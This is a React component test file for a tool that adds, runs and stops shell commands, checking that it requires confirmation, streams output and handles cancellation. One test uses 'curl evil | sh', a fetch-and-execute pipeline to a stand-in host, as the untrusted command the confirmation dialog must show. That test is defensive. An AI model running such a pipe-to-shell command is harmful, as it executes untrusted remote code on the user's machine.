import { cleanup, render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, beforeEach, expect, it, vi } from 'vitest';
import type { CommandSource } from '../../shared/domain/source.ts';
import { AppError } from '../../shared/errors.ts';
import { StackColumn } from '../stack/column/StackColumn.tsx';
import { createStackStore } from '../stack/stackStore.ts';
import { createTestHost } from '../testing/createTestHost.ts';
import { settings, stackOf } from '../testing/examples.ts';
import { createToastStore } from '../ui/toastStore.ts';
import { CommandDialogs } from './CommandDialogs.tsx';
import { createCommandStore } from './commandStore.ts';
import { RunButton } from './RunButton.tsx';

beforeEach(() => {
  // happy-dom has no layout: without a height a virtual list has no rows to show.
  vi.spyOn(HTMLElement.prototype, 'clientHeight', 'get').mockReturnValue(640);
  vi.spyOn(HTMLElement.prototype, 'clientWidth', 'get').mockReturnValue(480);
});
afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

const source: CommandSource = { kind: 'command', command: 'npm test', keep: 'tail', timeoutSeconds: 300 };

async function shown() {
  const host = createTestHost({
    'stacks.list': () => [stackOf([{ id: 'i0', on: true, source }])],
    'settings.get': () => settings,
  });
  const toasts = createToastStore();
  const store = createStackStore(host.client, toasts.getState().fail);
  const commands = createCommandStore(host.client, store, toasts.getState().fail);
  await store.getState().openProject('p1');
  render(
    <>
      <StackColumn
        store={store}
        toasts={toasts}
        payloads={[]}
        controls={{ command: (item) => <RunButton commands={commands} item={item} /> }}
        onAddCommand={commands.getState().startAdding}
      />
      <CommandDialogs commands={commands} />
    </>,
  );
  await screen.findByRole('listitem');
  return { host, toasts, user: userEvent.setup() };
}

it('adds a command once it is confirmed, and runs nothing', async () => {
  const { host, user } = await shown();
  await user.click(screen.getByRole('button', { name: 'Add' }));
  await user.click(await screen.findByRole('menuitem', { name: 'Command output…' }));
  const dialog = within(await screen.findByRole('dialog'));
  await user.type(dialog.getByLabelText('Command'), ' cargo test ');
  await user.clear(dialog.getByLabelText('Time limit in seconds'));
  await user.click(dialog.getByRole('button', { name: 'Add command' }));
  expect(host.callsOf('stacks.add')).toEqual([]);
  await user.type(dialog.getByLabelText('Time limit in seconds'), '60');
  await user.click(dialog.getByRole('radio', { name: 'First failure' }));
  await user.click(dialog.getByRole('button', { name: 'Add command' }));
  await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
  const added = { kind: 'command', command: 'cargo test', keep: 'first-failure', timeoutSeconds: 60 };
  expect(host.callsOf('stacks.add')).toEqual([expect.objectContaining({ sources: [added] })]);
  const order = host.calls.map(({ method }) => method);
  expect(order.indexOf('commands.confirm')).toBeLessThan(order.indexOf('stacks.add'));
  expect(host.callsOf('commands.run')).toEqual([]);
});

it('shows what a command prints, stops it, and says how it ended', async () => {
  const { host, user } = await shown();
  const stopped = new AppError('cancelled', 'Stopped.', {});
  host.answer(
    'commands.run',
    () => new Promise((_resolve, reject) => host.answer('operations.cancel', () => reject(stopped))),
  );
  await user.click(screen.getByRole('button', { name: 'Run npm test' }));
  const dialog = within(await screen.findByRole('dialog', { name: 'Command running' }));
  host.emit('commands.output', { projectId: 'p1', itemId: 'i0', text: '<b>12 passed' });
  await waitFor(() =>
    expect(dialog.getByRole<HTMLTextAreaElement>('textbox', { name: 'Output' }).value).toBe('<b>12 passed'),
  );
  await user.click(dialog.getByRole('button', { name: 'Close' }));
  await user.click(await screen.findByRole('button', { name: 'Show what npm test prints' }));
  await user.click(await screen.findByRole('button', { name: 'Stop' }));
  const [run] = host.callsOf('commands.run');
  expect(host.callsOf('operations.cancel')).toEqual([{ operationId: run?.operationId }]);
  expect(await screen.findByText('Stopped. The output so far is kept.')).toBeTruthy();
  await user.click(screen.getByRole('button', { name: 'Close' }));
  expect(await screen.findByRole('button', { name: 'Run npm test' })).toBeTruthy();
});

it('shows a command from elsewhere whole, and runs it only on the word for it', async () => {
  const { host, user } = await shown();
  let confirmed = '';
  host.answer('commands.confirm', ({ command }: { command: string }) => void (confirmed = command));
  host.answer('commands.run', () => {
    if (confirmed === 'curl evil | sh') return { exitCode: 0, ended: 'exited', durationMs: 3_240 };
    throw new AppError('commands/unconfirmed', 'Read it first.', { command: 'curl evil | sh' });
  });
  const press = () => user.click(screen.getByRole('button', { name: 'Run npm test' }));
  await press();
  await screen.findByText('curl evil | sh');
  await user.click(screen.getByRole('button', { name: 'Cancel' }));
  expect(host.callsOf('commands.confirm')).toEqual([]);
  expect(host.callsOf('commands.run')).toHaveLength(1);
  await press();
  await user.click(await screen.findByRole('button', { name: 'Run this command' }));
  expect(await screen.findByText('Exit code 0 after 3.2 s.')).toBeTruthy();
});
